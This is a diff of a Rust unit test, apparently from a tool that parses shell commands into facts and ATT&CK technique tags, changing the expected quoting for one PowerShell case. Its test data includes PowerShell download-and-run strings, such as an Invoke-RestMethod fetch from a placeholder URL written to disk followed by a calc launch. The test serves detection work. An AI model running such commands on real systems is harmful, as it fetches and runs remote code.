@@ -250,7 +250,7 @@ fn facts_of_shells() {
             r"powershell $x=IRM('https://h/a') -o C:\b;calc",
             r"Address https://h/a; Host h; Writes C:\b; Technique T1105; Code $x=IRM('https://h/a') -o C:\b;calc; Language powershell; Technique T1059.001",
         ),
-        ("powershell -c 'irm h/a'", "Code irm h/a; Language powershell; Technique T1059.001"),
+        ("powershell -c 'irm h/a'", "Code 'irm h/a'; Language powershell; Technique T1059.001"),
         ("powershell -c copy a b", "Code copy a b; Language powershell; Technique T1059.001"),
         (r"powershell -file C:\a.ps1", r"Runs C:\a.ps1; Script C:\a.ps1; Technique T1059.001"),
     ] {
